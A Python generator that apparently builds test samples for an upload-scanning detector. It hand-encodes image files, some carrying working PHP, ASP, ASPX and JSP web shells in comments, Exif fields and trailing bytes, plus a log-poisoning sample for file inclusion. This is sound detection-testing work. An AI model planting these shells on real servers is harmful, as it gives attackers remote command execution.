"""Build the image samples: valid minimal JPEG/PNG/GIF/ICO/BMP files, some carrying server-side code.

Run from anywhere: ``python tests/samples/make_polyglots.py``. The output is deterministic and is
committed; rerun after changing this script. The malicious files are inert: they only matter if a web
server were told to run them (the samples next to `.htaccess` tricks show how attackers do that).

Images are encoded here from first principles (no imaging library): a DC-only baseline JPEG with
Huffman coding, PNG with zlib/CRC, GIF89a with LZW, ICO wrapping a PNG, 24-bit BMP. ``--check``
decodes what it can (PNG, GIF, BMP) and runs ``djpeg`` on the JPEGs when it is installed.
"""

from __future__ import annotations

import argparse
import random
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
MALICIOUS = HERE / "polyglot" / "polyglot"
BENIGN = HERE / "benign" / "polyglot"

Pixel = Callable[[int, int], tuple[int, int, int]]


def gradient(x: int, y: int) -> tuple[int, int, int]:
    return (40 + x * 3) % 256, (90 + y * 2) % 256, (160 + (x ^ y)) % 256


def disc(x: int, y: int) -> tuple[int, int, int]:
    inside = (x - 16) ** 2 + (y - 16) ** 2 < 140
    return (220, 80, 40) if inside else (250, 250, 245)


# --------------------------------------------------------------------------------------------------
# JPEG: baseline, grayscale, DC-only blocks (every AC coefficient zero -> one EOB per block)

_DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]  # ITU T.81 table K.3
_DC_VALS = list(range(12))
_AC_BITS = [1] + [0] * 15  # one symbol: EOB (0x00) with code "0"
_AC_VALS = [0x00]


def _huffman_codes(bits: list[int], vals: list[int]) -> dict[int, tuple[int, int]]:
    codes: dict[int, tuple[int, int]] = {}
    code, k = 0, 0
    for length in range(1, 17):
        for _ in range(bits[length - 1]):
            codes[vals[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1
    return codes


class _BitWriter:
    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def write(self, value: int, length: int) -> None:
        for i in range(length - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0x00)  # byte stuffing
                self.acc, self.n = 0, 0

    def flush(self) -> bytes:
        while self.n:
            self.write(1, 1)
        return bytes(self.out)


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">HH", marker, len(payload) + 2) + payload


def exif_app1(fields: dict[int, str]) -> bytes:
    """An APP1 Exif segment (little-endian TIFF, IFD0 with ASCII tags)."""
    entries = sorted(fields.items())
    ifd_size = 2 + 12 * len(entries) + 4
    data_offset = 8 + ifd_size
    ifd = struct.pack("<H", len(entries))
    blob = b""
    for tag, text in entries:
        value = text.encode("latin-1") + b"\0"
        if len(value) <= 4:
            ifd += struct.pack("<HHI", tag, 2, len(value)) + value.ljust(4, b"\0")
        else:
            ifd += struct.pack("<HHII", tag, 2, len(value), data_offset + len(blob))
            blob += value + (b"\0" if len(value) % 2 else b"")
    ifd += struct.pack("<I", 0)
    tiff = b"II*\0" + struct.pack("<I", 8) + ifd + blob
    return _segment(0xFFE1, b"Exif\0\0" + tiff)


def jpeg(
    width: int,
    height: int,
    pixel: Pixel,
    *,
    comment: bytes | None = None,
    app1: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    assert width % 8 == 0 and height % 8 == 0
    out = bytearray(b"\xff\xd8")
    out += _segment(0xFFE0, b"JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    out += app1
    if comment is not None:
        out += _segment(0xFFFE, comment)
    out += _segment(0xFFDB, b"\x00" + bytes([8] + [16] * 63))
    out += _segment(0xFFC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    out += _segment(0xFFC4, b"\x00" + bytes(_DC_BITS) + bytes(_DC_VALS))
    out += _segment(0xFFC4, b"\x10" + bytes(_AC_BITS) + bytes(_AC_VALS))
    out += _segment(0xFFDA, b"\x01\x01\x00\x00\x3f\x00")
    dc_codes = _huffman_codes(_DC_BITS, _DC_VALS)
    eob_code, eob_len = _huffman_codes(_AC_BITS, _AC_VALS)[0]
    bits = _BitWriter()
    prev = 0
    for by in range(0, height, 8):
        for bx in range(0, width, 8):
            total = 0
            for y in range(by, by + 8):
                for x in range(bx, bx + 8):
                    r, g, b = pixel(x, y)
                    total += (299 * r + 587 * g + 114 * b) // 1000
            dc = round((total / 64 - 128) * 8 / 8)  # F(0,0) = 8 * mean, quantised by 8
            diff = dc - prev
            prev = dc
            size = abs(diff).bit_length()
            code, length = dc_codes[size]
            bits.write(code, length)
            if size:
                bits.write(diff if diff > 0 else diff + (1 << size) - 1, size)
            bits.write(eob_code, eob_len)
    out += bits.flush()
    out += b"\xff\xd9"
    return bytes(out) + trailer


# --------------------------------------------------------------------------------------------------
# PNG


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int,
    height: int,
    pixel: Pixel,
    *,
    text: list[tuple[bytes, bytes]] | None = None,
    itxt: list[tuple[bytes, bytes]] | None = None,
    trailer: bytes = b"",
    raw_rows: list[bytes] | None = None,
) -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    out += _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    for key, value in text or []:
        out += _chunk(b"tEXt", key + b"\0" + value)
    for key, value in itxt or []:
        out += _chunk(b"iTXt", key + b"\0\0\0\0\0" + value)
    rows = raw_rows or [b"\0" + b"".join(bytes(pixel(x, y)) for x in range(width)) for y in range(height)]
    out += _chunk(b"IDAT", zlib.compress(b"".join(rows), 9))
    out += _chunk(b"IEND", b"")
    return out + trailer


def png_check(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "PNG signature"
    pos, idat, size = 8, b"", (0, 0)
    while True:
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        kind = data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", data[pos + 8 + length : pos + 12 + length])
        assert crc == zlib.crc32(kind + body), f"CRC of {kind!r}"
        if kind == b"IHDR":
            size = struct.unpack(">II", body[:8])
        elif kind == b"IDAT":
            idat += body
        pos += 12 + length
        if kind == b"IEND":
            break
    raw = zlib.decompress(idat)
    assert len(raw) == size[1] * (1 + size[0] * 3), "PNG pixel data size"
    return size


# --------------------------------------------------------------------------------------------------
# GIF89a: 128-colour palette, LZW with a clear code every 100 pixels (code width stays 8 bits)


def _palette() -> list[tuple[int, int, int]]:
    return [((i * 37) % 256, (i * 73) % 256, (i * 151) % 256) for i in range(128)]


def _nearest(pal: list[tuple[int, int, int]], rgb: tuple[int, int, int]) -> int:
    return min(range(len(pal)), key=lambda i: sum((a - b) ** 2 for a, b in zip(pal[i], rgb, strict=True)))


def _lzw(indices: list[int]) -> bytes:
    clear, eoi, width = 128, 129, 8
    acc, n = 0, 0
    out = bytearray()

    def emit(code: int) -> None:
        nonlocal acc, n
        acc |= code << n
        n += width
        while n >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            n -= 8

    for i, px in enumerate(indices):
        if i % 100 == 0:
            emit(clear)
        emit(px)
    emit(eoi)
    if n:
        out.append(acc & 0xFF)
    return bytes(out)


def _sub_blocks(data: bytes) -> bytes:
    out = bytearray()
    for i in range(0, len(data), 255):
        part = data[i : i + 255]
        out += bytes([len(part)]) + part
    return bytes(out) + b"\0"


def gif(
    width: int, height: int, pixel: Pixel, *, comment: bytes | None = None, trailer: bytes = b""
) -> bytes:
    pal = _palette()
    out = b"GIF89a" + struct.pack("<HHBBB", width, height, 0xF6, 0, 0)
    out += b"".join(bytes(c) for c in pal)
    if comment is not None:
        out += b"\x21\xfe" + _sub_blocks(comment)
    out += b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    indices = [_nearest(pal, pixel(x, y)) for y in range(height) for x in range(width)]
    out += b"\x07" + _sub_blocks(_lzw(indices))
    return out + b"\x3b" + trailer


def gif_check(data: bytes) -> tuple[int, int]:
    assert data[:6] == b"GIF89a", "GIF signature"
    width, height, packed = struct.unpack("<HHB", data[6:11])
    pos = 13 + (3 * (2 << (packed & 7)) if packed & 0x80 else 0)
    while data[pos] == 0x21:  # extensions
        pos += 2
        while data[pos]:
            pos += 1 + data[pos]
        pos += 1
    assert data[pos] == 0x2C, "image descriptor"
    pos += 10
    min_size = data[pos]
    pos += 1
    blob = bytearray()
    while data[pos]:
        blob += data[pos + 1 : pos + 1 + data[pos]]
        pos += 1 + data[pos]
    assert data[pos + 1] == 0x3B, "GIF trailer"
    # LZW decode (general decoder, so the encoder is checked independently)
    clear, eoi = 1 << min_size, (1 << min_size) + 1
    width_bits, bitpos, pixels = min_size + 1, 0, 0
    table: list[bytes] = []
    prev: bytes | None = None
    total_bits = len(blob) * 8
    while bitpos + width_bits <= total_bits:
        code = (int.from_bytes(blob, "little") >> bitpos) & ((1 << width_bits) - 1)
        bitpos += width_bits
        if code == clear:
            table = [bytes([i]) for i in range(clear)] + [b"", b""]
            width_bits, prev = min_size + 1, None
            continue
        if code == eoi:
            break
        if code < len(table):
            entry = table[code]
        else:
            assert prev is not None and code == len(table), "LZW code out of range"
            entry = prev + prev[:1]
        pixels += len(entry)
        if prev is not None:
            table.append(prev + entry[:1])
            if len(table) == (1 << width_bits) and width_bits < 12:
                width_bits += 1
        prev = entry
    assert pixels == width * height, f"GIF pixel count {pixels} != {width * height}"
    return width, height


# --------------------------------------------------------------------------------------------------
# ICO (PNG inside) and BMP


def ico(png_data: bytes, size: int, *, trailer: bytes = b"") -> bytes:
    header = struct.pack("<HHH", 0, 1, 1)
    entry = struct.pack("<BBBBHHII", size % 256, size % 256, 0, 0, 1, 32, len(png_data), 22)
    return header + entry + png_data + trailer


def bmp(width: int, height: int, pixel: Pixel, *, trailer: bytes = b"") -> bytes:
    row_size = (width * 3 + 3) & ~3
    rows = b""
    for y in range(height - 1, -1, -1):
        row = b"".join(bytes(reversed(pixel(x, y))) for x in range(width))
        rows += row.ljust(row_size, b"\0")
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(rows), 2835, 2835, 0, 0)
    head = b"BM" + struct.pack("<IHHI", 14 + len(info) + len(rows), 0, 0, 54)
    return head + info + rows + trailer


def bmp_check(data: bytes) -> tuple[int, int]:
    assert data[:2] == b"BM", "BMP signature"
    (offset,) = struct.unpack("<I", data[10:14])
    width, height = struct.unpack("<ii", data[18:26])
    row_size = (width * 3 + 3) & ~3
    assert len(data) >= offset + row_size * height, "BMP pixel data"
    return width, height


# --------------------------------------------------------------------------------------------------
# The samples

PHP_EVAL_POST = b"<?php @eval($_POST['pass']); ?>"
PHP_SYSTEM = (
    b"<?php if(isset($_GET['cmd'])){echo '<pre>';system($_GET['cmd']);echo '</pre>';} __halt_compiler(); ?>"
)
PHP_UPLOADER = (
    b"<?php $f=$_FILES['f'];if($f){move_uploaded_file($f['tmp_name'],$_POST['d'].'/'.$f['name']);"
    b"echo 'ok';} ?>"
)
PHP_GZ = b"<?php @eval(gzinflate(base64_decode('c0gtS8zRUIkP8A8OiVbPVo/VtAYA'))); ?>"
PHP_ROT13 = b"<?php $a=str_rot13('flfgrz');$b=$_GET[0];$a($b); ?>"
PHP_SHORT = b"<?=$_GET[0]($_GET[1]);?>"
PHP_FAKE_ICON = (
    b'<?php\n$_x7 = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\n'
    b'$_y2 = $_x7("QGV2YWwoJF9QT1NUWydrZXknXSk7");\n'
    b"@eval($_y2);\n?>\n"
)
ASP_EVAL = b'<%eval request("x")%>'
ASPX_CHOPPER = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
JSP_EXEC = (
    b'<%@ page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); '
    b"InputStream in = p.getInputStream(); int b; while ((b = in.read()) != -1) out.write(b); %>"
)
JSP_LOADER = (
    b"<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super."
    b"defineClass(b,0,b.length);}}%><%new U(this.getClass().getClassLoader()).g(java.util.Base64."
    b'getDecoder().decode(request.getParameter("k"))).newInstance().equals(pageContext);%>'
)

LOG_LINES = (
    b'203.0.113.9 - - [12/May/2024:10:01:22 +0000] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"\n'
    b'203.0.113.9 - - [12/May/2024:10:01:25 +0000] "GET /index.php?page=../../../../var/log/apache2/'
    b'error.log HTTP/1.1" 200 311 "-" "<?php system($_GET[\'c\']); ?>"\n'
    b"[Sun May 12 10:01:25.101 2024] [php:warn] [pid 811] [client 203.0.113.9:51122] PHP Warning:  "
    b"include(): Failed opening '<?php passthru($_REQUEST[\"x\"]); ?>' for inclusion\n"
)

README_TEXT = b"""Notes for the upload folder
===========================

Files in this folder are served as-is. Nothing here is executed.
"""
README_WITH_CODE = README_TEXT + b"\n" + PHP_EVAL_POST + b"\n"

PHP_TAGS_DOC = b"""PHP opening and closing tags
============================

When PHP parses a file, it looks for opening and closing tags, which are <?php and ?>. These tell
PHP to start and stop interpreting the code between them. Parsing in this manner allows PHP to be
embedded in all sorts of different documents, as everything outside of a pair of opening and closing
tags is ignored by the PHP parser.

PHP includes a short echo tag <?= which is a short-hand to the more verbose <?php echo.

Example 1:

    <?php echo 'if you want to serve PHP code in XHTML or XML documents, use these tags'; ?>

Example 2:

    You can use the short echo tag to <?= 'print this string' ?>.
    It's equivalent to <?php echo 'print this string' ?>.

If a file contains only PHP code, it is preferable to omit the PHP closing tag at the end of the
file. This prevents accidental whitespace or new lines being added after the PHP closing tag.
"""

PHP_TAGS_MD = b"""# Templates

Our templates are plain PHP. Print a value with the short echo tag and always escape it:

```php
<h1><?= htmlspecialchars($title, ENT_QUOTES, 'UTF-8') ?></h1>
<?php foreach ($items as $item): ?>
  <li><?= htmlspecialchars($item->name) ?></li>
<?php endforeach; ?>
```

Never echo request data (`$_GET`, `$_POST`) without escaping it first.
"""


def noise_rows(width: int, height: int, seed: int) -> list[bytes]:
    rng = random.Random(seed)
    return [b"\0" + bytes(rng.randrange(256) for _ in range(width * 3)) for _ in range(height)]


def _noise_png_with_marker() -> bytes:
    """A random-noise PNG whose compressed data happens to contain the bytes '<%' (seed searched
    once, fixed here): binary data that looks like a code marker must not count as code."""
    for seed in range(2000):
        data = png(96, 96, gradient, raw_rows=noise_rows(96, 96, seed))
        if b"<%" in data and b"<?" in data:
            return data
    raise SystemExit("no seed produced the marker bytes")


def samples() -> dict[Path, bytes]:
    m, b = MALICIOUS, BENIGN
    icon = png(16, 16, disc)
    return {
        # image data + code in a comment segment / chunk (middle of the file)
        m / "uploads/2024/05/avatar.jpg": jpeg(64, 48, gradient, comment=PHP_EVAL_POST),
        m / "uploads/2024/05/logo.png": png(32, 32, disc, text=[(b"Comment", PHP_SYSTEM)]),
        m / "uploads/2024/03/thumb.png": png(24, 24, gradient, itxt=[(b"Description", PHP_ROT13)]),
        m / "images/banner.gif": gif(32, 16, gradient, comment=PHP_UPLOADER),
        m / "uploads/2023/11/photo.jpg": jpeg(
            32, 32, disc, app1=exif_app1({0x010E: PHP_GZ.decode(), 0x010F: "Canon", 0x0110: "EOS 80D"})
        ),
        m / "upload/image/2024/banner.jpg": jpeg(48, 32, gradient, comment=ASP_EVAL),
        m / "files/shell.gif": gif(16, 16, disc, comment=ASPX_CHOPPER),
        m / "uploads/2024/05/image.jpg": jpeg(32, 32, gradient, comment=JSP_EXEC),
        # code appended after the image's end marker
        m / "uploads/2024/06/1.gif": gif(16, 16, disc, trailer=b"\n" + PHP_UPLOADER + b"\n"),
        m / "uploads/avatars/user_17.png": png(16, 16, gradient, trailer=JSP_LOADER),
        m / "uploads/2024/05/cover.jpg": jpeg(32, 32, disc, trailer=PHP_SHORT),
        m / "uploads/2024/05/favicon.ico": ico(icon, 16, trailer=b"\n" + PHP_SYSTEM),
        m / "uploads/2024/05/pic.bmp": bmp(8, 8, gradient, trailer=b"\n" + PHP_SHORT + b"\n"),
        # a script wearing a GIF header (upload filters that only check magic bytes)
        m / "uploads/2024/05/img.php": b"GIF89a;\n" + PHP_EVAL_POST + b"\n",
        # code in text-like files: a fake icon, a note, a poisoned log for LFI
        m / "wp-content/uploads/2024/02/favicon_5f1c.ico": PHP_FAKE_ICON,
        m / "uploads/2024/05/readme.txt": README_WITH_CODE,
        m / "logs/error.log": LOG_LINES,
        # benign images and documentation that merely mentions PHP tags
        b / "uploads/2024/05/photo.jpg": jpeg(64, 64, gradient, comment=b"Created with GIMP"),
        b / "uploads/2024/05/logo.png": png(32, 32, disc, text=[(b"Software", b"Inkscape 1.2")]),
        b / "uploads/2024/05/spacer.gif": gif(8, 8, disc),
        # an ordinary camera photo: Exif description, make, model and copyright, and a JPEG comment
        b / "uploads/2024/05/harbour.jpg": jpeg(
            48,
            32,
            gradient,
            comment=b"Harbour at dusk <edited> - exported for the web (quality 85)",
            app1=exif_app1(
                {
                    0x010E: "Sunset over the harbour; request a print at the front desk",
                    0x010F: "Canon",
                    0x0110: "Canon EOS 80D",
                    0x8298: "(c) 2024 Example Photo Club <info@example.invalid>",
                }
            ),
        ),
        b / "images/favicon.ico": ico(icon, 16),
        b / "uploads/2024/05/noise.png": _noise_png_with_marker(),
        b / "uploads/2024/05/readme.txt": README_TEXT,
        b / "docs/php-tags.txt": PHP_TAGS_DOC,
        b / "docs/templates.md": PHP_TAGS_MD,
    }


def check(path: Path, data: bytes) -> None:
    if data[:2] == b"\xff\xd8":
        djpeg = shutil.which("djpeg")
        if djpeg:
            subprocess.run([djpeg, "-outfile", "/dev/null", str(path)], check=True, capture_output=True)
    elif data[:4] == b"\x89PNG":
        png_check(data)
    elif data[:6] == b"GIF89a" and data[6:7] != b";":
        gif_check(data)
    elif data[:2] == b"BM":
        bmp_check(data)
    elif data[:4] == b"\0\0\1\0":
        png_check(data[22:])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--check", action="store_true", help="decode every image after writing")
    args = parser.parse_args(argv)
    for path, data in samples().items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        if args.check:
            check(path, data)
        sys.stdout.write(f"{path.relative_to(HERE)}  {len(data)} bytes\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
